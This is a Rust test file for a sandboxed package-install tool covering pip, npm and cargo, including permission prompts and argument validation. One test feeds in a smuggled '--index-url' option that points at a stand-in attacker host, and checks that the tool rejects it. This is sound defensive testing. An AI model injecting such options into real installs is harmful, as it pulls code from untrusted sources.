//! `pkg_install` against the real registries (PyPI, npm, crates.io), in the sandbox with
//! network; and the policy's answer for installs.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic

mod common;

use dark8_protocol::ToolStatus;
use dark8_tools::PolicyConfig;
use serde_json::{json, Value};

async fn call(tools: &common::Tools, args: Value) -> dark8_protocol::ToolResult {
    tools.call("pkg_install", args).await
}

/// A user who allowed installs (the built-in rules make every install ask).
fn installs_allowed() -> PolicyConfig {
    PolicyConfig {
        default_rules: false,
        ..PolicyConfig::default()
    }
}

#[tokio::test]
async fn installs_ask_first_under_the_built_in_rules() {
    let exec = common::tools().await;
    let ws = &exec.workspace;
    std::fs::write(ws.path().join("requirements.txt"), "").unwrap();
    let result = call(&exec, json!({"package": "six"})).await;
    assert_eq!(result.status, ToolStatus::Denied);
    assert!(
        result.summary.contains("instalacja pakietów"),
        "{}",
        result.summary
    );
    assert!(!ws.path().join(".venv").exists());
    let hostile = call(
        &exec,
        json!({"package": "--index-url=http://zly.example/ six"}),
    )
    .await;
    assert_eq!(hostile.status, ToolStatus::Error);
    assert!(hostile.summary.contains("Złe argumenty"));
}

#[tokio::test]
async fn pip_installs_into_the_projects_venv() {
    let exec = common::tools_with(installs_allowed(), |_| {}).await;
    let ws = &exec.workspace;
    std::fs::write(ws.path().join("requirements.txt"), "").unwrap();
    // Two packages in one call ("Zainstaluj six i toml"), each its own argument.
    let result = call(&exec, json!({"package": "six==1.16.0 toml==0.10.2"})).await;
    assert_eq!(result.status, ToolStatus::Success, "{}", result.summary);
    assert_eq!(result.output["manager"], "pip");
    let check = std::process::Command::new(ws.path().join(".venv/bin/python"))
        .args([
            "-c",
            "import six, toml; print(six.__version__, toml.__version__)",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&check.stdout).trim(),
        "1.16.0 0.10.2"
    );
    let missing = call(&exec, json!({"package": "dark8-na-pewno-nie-istnieje-xyz"})).await;
    assert_eq!(missing.status, ToolStatus::Error);
    assert!(
        missing.summary.contains("nie powiodła się"),
        "{}",
        missing.summary
    );
}

#[tokio::test]
async fn npm_and_cargo_add_to_the_project() {
    let exec = common::tools_with(installs_allowed(), |_| {}).await;
    let ws = &exec.workspace;
    std::fs::create_dir(ws.path().join("web")).unwrap();
    std::fs::write(
        ws.path().join("web/package.json"),
        r#"{"name":"web","version":"1.0.0"}"#,
    )
    .unwrap();
    let npm = call(&exec, json!({"package": "is-number@7.0.0", "path": "web"})).await;
    assert_eq!(npm.status, ToolStatus::Success, "{}", npm.summary);
    let manifest = std::fs::read_to_string(ws.path().join("web/package.json")).unwrap();
    assert!(manifest.contains("\"is-number\""), "{manifest}");
    assert!(ws
        .path()
        .join("web/node_modules/is-number/package.json")
        .exists());

    std::fs::create_dir_all(ws.path().join("rs/src")).unwrap();
    std::fs::write(
        ws.path().join("rs/Cargo.toml"),
        "[package]\nname = \"rs\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(ws.path().join("rs/src/main.rs"), "fn main() {}\n").unwrap();
    let cargo = call(&exec, json!({"package": "itoa@1", "path": "rs"})).await;
    assert_eq!(cargo.status, ToolStatus::Success, "{}", cargo.summary);
    let manifest = std::fs::read_to_string(ws.path().join("rs/Cargo.toml")).unwrap();
    assert!(manifest.contains("itoa = \"1"), "{manifest}");
    let unknown = call(&exec, json!({"package": "cokolwiek"})).await;
    assert!(
        unknown.summary.contains("którym menedżerem"),
        "{}",
        unknown.summary
    );
}
